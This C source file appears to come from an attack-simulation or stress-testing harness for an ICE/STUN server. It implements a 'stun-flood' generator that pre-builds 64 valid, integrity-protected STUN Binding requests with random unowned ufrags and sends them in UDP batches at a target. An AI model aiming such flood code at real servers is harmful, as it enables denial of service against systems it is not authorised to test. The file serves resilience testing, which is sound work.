/* stun-flood: well-formed, integrity-protected Binding requests (built by
 * ice/ice_client.h as a real controlling agent would) for ufrags no session
 * owns, so the receiver finds no credentials for any of them. */
#include "attack_generator.h"

#include "ice/ice_client.h"
#include "ice/ice_credentials.h"

#include <glib.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define POOL 64

typedef struct {
    int fd;
    struct sockaddr_in6 target;
    uint8_t requests[POOL][MOAT_ICE_CLIENT_REQUEST_CAPACITY];
    size_t lengths[POOL];
    size_t next;
} stun_state;

static void destroy_stun(void *state)
{
    stun_state *st = state;
    if (st->fd >= 0)
        close(st->fd);
    g_free(st);
}

/* One request with throw-away credentials on both sides. */
static size_t build_request(uint8_t *out, size_t capacity)
{
    char local_ufrag[MOAT_ICE_UFRAG_LENGTH + 1], local_pwd[MOAT_ICE_PWD_LENGTH + 1];
    char remote_ufrag[MOAT_ICE_UFRAG_LENGTH + 1], remote_pwd[MOAT_ICE_PWD_LENGTH + 1];
    if (moat_ice_credentials_generate(local_ufrag, local_pwd) != 0 ||
        moat_ice_credentials_generate(remote_ufrag, remote_pwd) != 0)
        return 0;
    moat_ice_client_credentials credentials = {
        .local_ufrag = local_ufrag,
        .local_pwd = local_pwd,
        .remote_ufrag = remote_ufrag,
        .remote_pwd = remote_pwd,
        .tie_breaker = g_random_int(),
    };
    moat_ice_client *client = moat_ice_client_new(&credentials);
    if (client == NULL)
        return 0;
    size_t length = moat_ice_client_build_request(client, moat_ice_client_prflx_priority(65535, 1),
                                                  true, false, out, capacity);
    moat_ice_client_free(client);
    return length;
}

static void *create_stun(const attack_environment *env, char *error, size_t error_size)
{
    stun_state *st = g_new0(stun_state, 1);
    st->target = env->target;
    st->fd = attack_udp_socket_open(error, error_size);
    if (st->fd < 0) {
        destroy_stun(st);
        return NULL;
    }
    for (size_t i = 0; i < POOL; i++) {
        st->lengths[i] = build_request(st->requests[i], sizeof st->requests[i]);
        if (st->lengths[i] == 0 || st->lengths[i] > ATTACK_DATAGRAM_CAPACITY) {
            snprintf(error, error_size, "cannot build STUN requests");
            destroy_stun(st);
            return NULL;
        }
    }
    return st;
}

static size_t fill_stun(void *state, attack_batch *batch, size_t max, uint64_t now_us)
{
    stun_state *st = state;
    attack_batch_aim(batch, st->fd, &st->target);
    for (size_t i = 0; i < max; i++) {
        memcpy(batch->datagrams[i], st->requests[st->next], st->lengths[st->next]);
        batch->lengths[i] = st->lengths[st->next];
        st->next = (st->next + 1) % POOL;
    }
    return max;
}

const attack_generator attack_stun_flood = {
    .kind = ATTACK_STUN_FLOOD,
    .create = create_stun,
    .fill = fill_stun,
    .destroy = destroy_stun,
};
